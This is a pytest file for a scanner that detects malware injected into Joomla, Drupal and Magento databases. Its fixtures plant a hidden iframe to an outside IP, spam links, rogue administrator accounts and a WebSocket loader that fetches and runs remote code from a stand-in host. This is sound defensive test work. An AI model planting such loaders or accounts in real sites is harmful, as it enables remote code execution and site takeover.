"""Joomla, Drupal and Magento 2 sites, scanned from their folders."""

# ruff: noqa: S608 - fixtures build SQL around fixed table names and
# prefixes; every value goes in as a parameter.

from __future__ import annotations

import datetime
from pathlib import Path

from cleanshift.dbscan import scan_site_database
from tests.dbscan.conftest import (
    MARIADB_HOST,
    MARIADB_PASSWORD,
    MARIADB_PORT,
    MARIADB_USER,
    ScratchDatabase,
)
from tests.dbscan.other_cms_schema import DRUPAL, JOOMLA, MAGENTO, create_tables
from tests.dbscan.wordpress_content import youtube_iframe
from tests.dbscan.wordpress_injections import place_of
from tests.dbscan.wordpress_payloads import OBFUSCATED, SKIMMER

NOW = datetime.datetime.now().replace(microsecond=0)
ARTICLE = (
    "<p>Our sourdough starter is fed twice a day with rye flour.</p>"
    + youtube_iframe("aqz-KE-bpKQ")
)
GTAG = (
    '<script async src="https://www.googletagmanager.com/gtag/js?id=G-X1"></script>'
    "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push("
    "arguments);}gtag('js',new Date());gtag('config','G-X1');</script>"
)
HIDDEN_IFRAME = '<iframe src="http://198.51.100.4/c.php" width="0" height="0"></iframe>'
SPAM = (
    '<div style="display:none"><a href="https://x.example/">cheap viagra</a>'
    '<a href="https://y.example/">best online casino</a></div>'
)
WEBSOCKET_LOADER = (
    "<script>var w=new WebSocket(atob('d3NzOi8vc3RhdC1jZG4udG9wL3dz'));w.onmessage="
    "function(m){new Function(m.data)();};</script>"
)


def test_joomla(test_database: ScratchDatabase, tmp_path: Path) -> None:
    prefix = "x7k2_"
    create_tables(test_database, JOOMLA, prefix)
    articles = [
        (number, f"Loaf {number}", f"loaf-{number}", ARTICLE, "")
        for number in range(1, 9)
    ]
    articles[2] = (3, "Loaf 3", "loaf-3", ARTICLE + HIDDEN_IFRAME, "")
    articles[4] = (5, "Loaf 5", "loaf-5", ARTICLE, "<p>More</p>" + OBFUSCATED)
    test_database.executemany(
        f"INSERT INTO {prefix}content (id, title, alias, introtext, `fulltext`, "
        "state, created, created_by, modified) "
        "VALUES (%s, %s, %s, %s, %s, 1, NOW(), 42, NOW())",
        articles,
    )
    test_database.executemany(
        f"INSERT INTO {prefix}modules (id, title, content, position, published, "
        "module, params, language) "
        "VALUES (%s, %s, %s, 'footer', 1, 'mod_custom', '{}', '*')",
        [(2, "Analytics", GTAG), (7, "Partners", "<p>Our partners</p>" + SPAM)],
    )
    users = [
        (42, "Owner", "baker", "baker@cornerbakery.example", "2018-02-01 09:00:00", 8),
        (43, "Web", "webmaster", "web@cornerbakery.example", "2020-06-01 09:00:00", 8),
        (44, "Jo", "jo", "jo@mail.example", "0000-00-00 00:00:00", 2),
        (45, "Sys", "sys_4c3b2a1f", "sys@cornerbakery.example", str(NOW), 8),
    ]
    for user_id, name, username, email, registered, group in users:
        test_database.execute(
            f"INSERT INTO {prefix}users (id, name, username, email, registerDate, "
            "params) VALUES (%s, %s, %s, %s, %s, '{}')",
            (user_id, name, username, email, registered),
        )
        test_database.execute(
            f"INSERT INTO {prefix}user_usergroup_map VALUES (%s, %s)", (user_id, group)
        )
    (tmp_path / "configuration.php").write_text(
        "<?php\nclass JConfig {\n"
        "\tpublic $dbtype = 'mysqli';\n"
        f"\tpublic $host = '{MARIADB_HOST}:{MARIADB_PORT}';\n"
        f"\tpublic $user = '{MARIADB_USER}';\n"
        f"\tpublic $password = '{MARIADB_PASSWORD}';\n"
        f"\tpublic $db = '{test_database.name}';\n"
        f"\tpublic $dbprefix = '{prefix}';\n}}\n"
    )

    report = scan_site_database(tmp_path)

    assert report.errors == []
    assert report.cms == "joomla"
    assert {place_of(finding): finding.rule for finding in report.findings} == {
        (f"{prefix}content", "introtext", (("id", 3),), ()): "db_hidden_iframe",
        (
            f"{prefix}content",
            "fulltext",
            (("id", 5),),
            (),
        ): "db_obfuscator_io_javascript",
        (f"{prefix}modules", "content", (("id", 7),), ()): "db_hidden_spam_links",
        (f"{prefix}users", "username", (("id", 45),), ()): "joomla_suspicious_admin",
    }
    names = {finding.location.name for finding in report.findings}
    assert names == {"loaf-3", "loaf-5", "Partners", "sys_4c3b2a1f"}


def test_drupal(test_database: ScratchDatabase, tmp_path: Path) -> None:
    create_tables(test_database, DRUPAL, "")
    bodies = [
        ("article", number, number, "en", 0, ARTICLE, "") for number in range(1, 21)
    ]
    bodies[6] = ("article", 7, 7, "en", 0, ARTICLE + SKIMMER, "")
    bodies[11] = ("article", 12, 12, "en", 0, ARTICLE, HIDDEN_IFRAME)
    fields = "bundle, entity_id, revision_id, langcode, delta, body_value, body_summary"
    test_database.executemany(
        f"INSERT INTO node__body ({fields}) VALUES (%s, %s, %s, %s, %s, %s, %s)", bodies
    )
    test_database.executemany(
        "INSERT INTO node_field_data "
        "VALUES (%s, %s, 'article', 'en', 1, %s, %s, 0, 0, 1)",
        [
            (number, number, 1 + number % 2, f"Bread {number}")
            for number in range(1, 21)
        ],
    )
    test_database.execute(
        f"INSERT INTO block_content__body ({fields}) VALUES "
        "('basic', 3, 3, 'en', 0, %s, NULL)",
        (WEBSOCKET_LOADER,),
    )
    test_database.execute(
        "INSERT INTO block_content_field_data VALUES (3, 3, 'basic', 'en', 1, "
        "'Footer promo', 0, 1, 1)"
    )
    year = 365 * 24 * 3600
    now = int(NOW.timestamp())
    users = [
        (1, "admin", now - 5 * year),
        (2, "editor", now - 4 * year),
        (3, "reader", now),
    ]
    users.append((9, "backup_7e1f2a9c", 0))
    test_database.executemany(
        "INSERT INTO users_field_data (uid, langcode, name, mail, created, access, "
        "default_langcode) VALUES (%s, 'en', %s, %s, %s, 0, 1)",
        [(uid, name, f"{name}@bread.example", created) for uid, name, created in users],
    )
    test_database.executemany(
        "INSERT INTO user__roles (bundle, entity_id, revision_id, langcode, delta, "
        "roles_target_id) VALUES ('user', %s, %s, 'en', 0, %s)",
        [(2, 2, "administrator"), (3, 3, "content_editor"), (9, 9, "administrator")],
    )
    settings = tmp_path / "sites" / "default" / "settings.php"
    settings.parent.mkdir(parents=True)
    settings.write_text(
        "<?php\n$databases['default']['default'] = array (\n"
        f"  'database' => '{test_database.name}',\n  'username' => '{MARIADB_USER}',\n"
        f"  'password' => '{MARIADB_PASSWORD}',\n  'prefix' => '',\n"
        f"  'host' => '{MARIADB_HOST}',\n  'port' => '{MARIADB_PORT}',\n"
        "  'driver' => 'mysql',\n);\n"
    )

    report = scan_site_database(tmp_path)

    assert report.errors == []
    key = {"deleted": 0, "delta": 0, "langcode": "en"}
    found = {
        (finding.location.table, finding.location.column, finding.location.name): (
            finding.rule,
            finding.location.key,
        )
        for finding in report.findings
    }
    assert found == {
        ("node__body", "body_value", "Bread 7"): (
            "db_js_payment_skimmer",
            {"entity_id": 7, **key},
        ),
        ("node__body", "body_summary", "Bread 12"): (
            "db_hidden_iframe",
            {"entity_id": 12, **key},
        ),
        ("block_content__body", "body_value", "Footer promo"): (
            "db_js_websocket_loader",
            {"entity_id": 3, **key},
        ),
        ("users_field_data", "name", "backup_7e1f2a9c"): (
            "drupal_suspicious_admin",
            {"uid": 9},
        ),
    }


def test_magento(test_database: ScratchDatabase, tmp_path: Path) -> None:
    create_tables(test_database, MAGENTO, "")
    test_database.executemany(
        "INSERT INTO cms_block (block_id, title, identifier, content) "
        "VALUES (%s, %s, %s, %s)",
        [
            (
                1,
                "Footer links",
                "footer_links",
                '<ul><li><a href="/about">About</a></li></ul>',
            ),
            (3, "Promo", "home_promo", "<p>20% off</p>" + WEBSOCKET_LOADER),
        ],
    )
    test_database.execute(
        "INSERT INTO cms_page (page_id, title, identifier, content_heading, content) "
        "VALUES (2, 'Home', 'home', 'Welcome', %s)",
        (ARTICLE,),
    )
    config = [
        ("web/unsecure/base_url", "https://shop.example/"),
        (
            "design/head/includes",
            '<link  rel="stylesheet" type="text/css"  media="all" '
            'href="{{MEDIA_URL}}styles.css" />' + GTAG,
        ),
        ("design/footer/absolute_footer", "&copy; Shop" + SKIMMER),
        ("design/footer/copyright", "Copyright © 2024 Shop"),
    ]
    test_database.executemany(
        "INSERT INTO core_config_data (path, value) VALUES (%s, %s)", config
    )
    test_database.executemany(
        "INSERT INTO admin_user (user_id, email, username, password, created) "
        "VALUES (%s, %s, %s, 'x', %s)",
        [
            (1, "owner@shop.example", "owner", "2022-03-01 10:00:00"),
            (2, "ops@shop.example", "ops", "2022-03-02 10:00:00"),
            (7, "support@shop.example", "support_7e1f2a9c", str(NOW)),
        ],
    )
    env = tmp_path / "app" / "etc" / "env.php"
    env.parent.mkdir(parents=True)
    env.write_text(
        "<?php\nreturn [\n  'db' => [\n    'table_prefix' => '',\n"
        "    'connection' => [\n      'default' => [\n"
        f"        'host' => '{MARIADB_HOST}:{MARIADB_PORT}',\n"
        f"        'dbname' => '{test_database.name}',\n"
        f"        'username' => '{MARIADB_USER}',\n"
        f"        'password' => '{MARIADB_PASSWORD}',\n"
        "        'active' => '1',\n      ],\n    ],\n  ],\n];\n"
    )

    report = scan_site_database(tmp_path)

    assert report.errors == []
    assert {
        (finding.location.table, finding.location.name): finding.rule
        for finding in report.findings
    } == {
        ("cms_block", "home_promo"): "db_js_websocket_loader",
        ("core_config_data", "design/footer/absolute_footer"): "db_js_payment_skimmer",
        ("admin_user", "support_7e1f2a9c"): "magento_suspicious_admin",
    }
    footer = next(f for f in report.findings if f.location.table == "core_config_data")
    assert footer.severity == "critical"
    assert footer.location.key == {"config_id": 3}
